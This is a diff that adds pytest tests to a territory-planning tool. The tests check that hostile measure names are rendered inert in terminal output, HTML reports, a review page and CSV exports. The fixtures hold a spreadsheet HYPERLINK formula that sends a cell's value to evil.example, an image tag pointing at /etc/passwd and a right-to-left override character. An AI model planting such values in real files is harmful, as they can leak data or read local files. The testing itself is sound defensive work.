@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import csv
 import json
+import re
 from pathlib import Path
 from typing import Any
 
@@ -157,3 +158,93 @@ def test_capacity_gives_every_measures_gap(plan4: tuple[Path, str], summary: dic
             assert float(row[f"max_{name}_deviation"]) == pytest.approx(worst, abs=1e-6)
     saved = json.loads((out / "capacity.json").read_text(encoding="utf-8"))
     assert "max_renewals_next_2q_deviation" in saved["plans"][0]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"ARR")'
+MARKUP = '<img src="file:///etc/passwd">pipeline'
+RTL = "تجديدات الربع القادم\u202e" + "x" * 90  # right-to-left, an override, very long
+REORDERING = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
+# the labels shown: at most 40 characters, the start and the end of a longer name kept
+FORMULA_LABEL = '=HYPERLINK("http://evil.ex…x="&A1,"ARR")'
+RTL_LABEL = "تجديدات الربع القادمxxxxxx…xxxxxxxxxxxxx"
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
+    """A plan whose measure columns are named like a formula, like markup and in Arabic with
+    a direction override and 90 more characters (the lumpy pipeline: its band cannot hold)."""
+    tmp = tmp_path_factory.mktemp("hostile")
+    columns = dict(zip(MEASURES[1:], (FORMULA, RTL, MARKUP)))
+    accounts, roster = write_inputs(tmp, columns)
+    config = "[balance.measures.potential]\nband = 0.1\n"
+    for name, band in ((FORMULA, 0.2), (RTL, 0.02), (MARKUP, 0.2)):
+        config += f"[balance.measures.{json.dumps(name)}]\nband = {band}\n"
+    (tmp / "plan.toml").write_text(config, encoding="utf-8")
+    out = tmp / "plan"
+    args = ["plan", str(accounts), str(roster), "--out", str(out), "--config", str(tmp / "plan.toml")]
+    result = CliRunner().invoke(cli, args)
+    assert result.exit_code == 0, result.output
+    return out, result.output
+
+
+def test_a_hostile_measure_name_is_inert_in_the_terminal(hostile: tuple[Path, str]) -> None:
+    _, output = hostile
+    assert not REORDERING.search(output)  # the override would reverse the rest of its line
+    lines = output.splitlines()
+    header = next(line for line in lines if line.startswith("Rep "))
+    assert f"{FORMULA_LABEL} vs fair  {RTL_LABEL} vs fair  {MARKUP} vs fair" in header
+    assert "x" * 40 not in header  # the long name is shortened, its start and end kept
+    # each measure's number ends under the end of its head
+    rows = [line for line in lines if re.match(r"R\d\d ", line)][:7]
+    ends = [m.end() for m in re.finditer("vs fair", header)]
+    assert len(ends) == 4 and all(row[end - 1] in "%!" for row in rows for end in ends)
+    warning = next(line for line in lines if "outside the band" in line and "الربع" in line)
+    # the warning quotes the name whole, and its setting as plan.toml writes it
+    assert f"R01: {RTL.replace(chr(0x202E), '')} " in warning
+    assert 'widen balance.measures."تجديدات الربع القادم\\u202e' in warning
+
+
+def test_a_hostile_measure_name_is_text_in_every_book(hostile: tuple[Path, str]) -> None:
+    from territory.reporting import build_rep_book, render_html
+    from territory.reporting.render import AssetFetcher
+
+    plan = load_plan_dir(hostile[0])
+    rep = plan.result.reps[0]
+    for ctx in (
+        build_plan_summary(plan, generated_on=GENERATED_ON),
+        build_manager_rollup(plan, rep.manager, generated_on=GENERATED_ON, maps=False),
+        build_rep_book(plan, rep.rep_id, generated_on=GENERATED_ON, maps=False),
+    ):
+        html = render_html(ctx)
+        assert "<img src" not in html and "&lt;img src=&#34;file:///etc/passwd&#34;&gt;pipeline" in html
+        assert "\u202e" not in html
+        # shortened wherever it labels a number (the warnings quote it whole, as the terminal)
+        assert "x" * 40 not in re.sub(r"<h3>Warnings</h3>.*?</ul>", "", html, flags=re.S)
+        fetcher = AssetFetcher()
+        text = flat(render_checked(ctx, fetcher))
+        assert fetcher.refused == []
+        assert MARKUP in text and FORMULA_LABEL in text and "root:x:0" not in text
+        assert "الربع" in text and RTL_LABEL[-12:] in text
+
+
+def test_a_hostile_measure_keeps_its_column_on_the_review_page(hostile: tuple[Path, str]) -> None:
+    """The plan writes a formula-like header neutralised ("'=HYPERLINK..."); the review page
+    looked for the measure's own name and silently left out its column."""
+    from territory.reporting.review import review_data
+
+    data = review_data(load_plan_dir(hostile[0]))
+    labels = list(data["accounts"]["amount_labels"].values())
+    assert labels == ["Potential", FORMULA_LABEL, RTL_LABEL, MARKUP]
+
+
+def test_a_hostile_measure_name_is_neutralised_in_compare_csv(
+    hostile: tuple[Path, str], tmp_path: Path
+) -> None:
+    out = tmp_path / "compare.csv"
+    result = CliRunner().invoke(cli, ["compare", str(hostile[0]), str(hostile[0]), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    assert not REORDERING.search(result.output)
+    assert f"Max {FORMULA_LABEL} deviation" in result.output and f"{MARKUP} CV" in result.output
+    with open(out, encoding="utf-8", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert "'" + FORMULA in cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)
